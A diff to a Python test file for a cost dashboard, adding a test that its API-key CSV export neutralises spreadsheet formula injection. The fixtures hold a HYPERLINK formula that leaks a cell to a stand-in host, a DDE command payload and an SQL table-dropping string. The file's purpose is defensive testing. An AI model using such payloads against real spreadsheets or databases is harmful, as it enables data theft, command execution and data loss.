@@ -3,10 +3,14 @@ in SQL (tests/dashboard_serving.py): pure logic and a read-only DuckDB file, in 
 
 from __future__ import annotations
 
+import csv
+import io
 from datetime import datetime
+from decimal import Decimal
 
 import pytest
 
+from dashboard.csv_export import FORMULA_STARTS, api_key_csv
 from dashboard.filters import resolve
 from dashboard.periods import Window
 from dashboard.queries import Filters, ServingReader
@@ -29,8 +33,18 @@ def test_every_part_of_the_view_is_written_and_read_back() -> None:
                       "key": ["k1", "k 2&"], "model": ["openai/gpt-5"], "tab": "providers", "stack": "provider",
                       "detail_model": "openai/gpt-5", "detail_provider": "azure"}  # fmt: skip
     asked = parse({k: v if isinstance(v, list) else [v] for k, v in params.items()})
-    assert (asked.grain, asked.first, asked.last, asked.account) == ("daily", view.window.first, view.window.last, "acct_1")
-    assert (asked.api_key_ids, asked.models, asked.tab, asked.stack) == (("k1", "k 2&"), ("openai/gpt-5",), "providers", "provider")
+    assert (asked.grain, asked.first, asked.last, asked.account) == (
+        "daily",
+        view.window.first,
+        view.window.last,
+        "acct_1",
+    )
+    assert (asked.api_key_ids, asked.models, asked.tab, asked.stack) == (
+        ("k1", "k 2&"),
+        ("openai/gpt-5",),
+        "providers",
+        "provider",
+    )
     assert (asked.detail_model, asked.detail_provider, asked.notices) == ("openai/gpt-5", "azure", [])
 
 
@@ -71,7 +85,9 @@ def test_pickers_offer_what_has_usage_in_the_range(reader: ServingReader) -> Non
     everything = {key for key, _ in reader.api_keys(None)}
     used = {key for key, _ in reader.api_keys(None, first_day)}
     assert "key_rare_12" in everything and used < everything  # the rarely used key is not offered for one day
-    assert set(reader.models("acct_alpha")) == set(reader.models("acct_alpha", None, ())) and "mistral/mistral-large" not in reader.models("acct_alpha")
+    assert set(reader.models("acct_alpha")) == set(
+        reader.models("acct_alpha", None, ())
+    ) and "mistral/mistral-large" not in reader.models("acct_alpha")
     for key in used:  # a pick never blanks the page
         assert not reader.costs(Filters("daily", api_key_ids=(key,)), first_day).empty
 
@@ -82,3 +98,42 @@ def test_provider_alternatives_are_read_only_where_the_mart_exists(reader: Servi
     assert frame is not None and set(frame["model"]) == {"openai/gpt-5", "anthropic/claude-sonnet-4-5"}
     assert all(row.savings == row.actual_cost - row.alternative_cost for row in frame.itertuples())
     assert reader.alternatives(Filters("hourly"), Window("hourly", window.first, window.first)) is None
+
+
+FORMULA_NAMES = {  # api_key_id -> the name tests/dashboard_serving.py gives it
+    "key_eval_09": '=HYPERLINK("http://x/?leak="&A1,"Click")',
+    "key_bot_10": "@SUM(1+1)",
+    "key_rare_12": "=cmd|' /C calc'!A0",
+}
+
+
+def test_the_api_key_csv_neutralises_formulas_and_keeps_numbers(reader: ServingReader) -> None:
+    window = Window("monthly", datetime(2026, 10, 1), datetime(2026, 11, 1))
+    frame = reader.costs(Filters("monthly"), window, ("account_id", "api_key_id", "api_key_name"))
+    rows = list(csv.DictReader(io.StringIO(api_key_csv(frame, window).decode("utf-8-sig"), newline="")))
+    names = {row["api_key_id"]: row["api_key_name"] for row in rows}
+    for key_id, name in FORMULA_NAMES.items():  # shown as text, the value still readable
+        assert names[key_id] == "'" + name
+    assert names["key_prod_01"] == "Production" and names["key_sql_11"] == "'); DROP TABLE marts.cost_cube; --"
+    assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())
+    for row, exact in zip(rows, frame.itertuples(), strict=True):  # numbers stay numbers, exact
+        assert Decimal(row["total_cost"]) == exact.total_cost and int(row["request_count"]) == exact.request_count
+
+    made_up = frame.head(7).assign(
+        api_key_name=["+1 555 0100", "-2+3", "\tTAB", "\rCR", " =lead space", "a=b", "＝fullwidth"],
+        account_id="-acct",
+        total_cost=[Decimal("-1.50"), *frame["total_cost"].head(6)],
+        request_count=[-1, *frame["request_count"].head(6)],
+    )
+    back = list(csv.reader(io.StringIO(api_key_csv(made_up, window).decode("utf-8-sig"), newline="")))[1:]
+    assert [row[4] for row in back] == [
+        "'+1 555 0100",
+        "'-2+3",
+        "'\tTAB",
+        "'\rCR",
+        " =lead space",
+        "a=b",
+        "＝fullwidth",
+    ]
+    assert {row[2] for row in back} == {"'-acct"}
+    assert (back[0][-1], back[0][5]) == ("-1.50", "-1")  # a negative number is not a formula
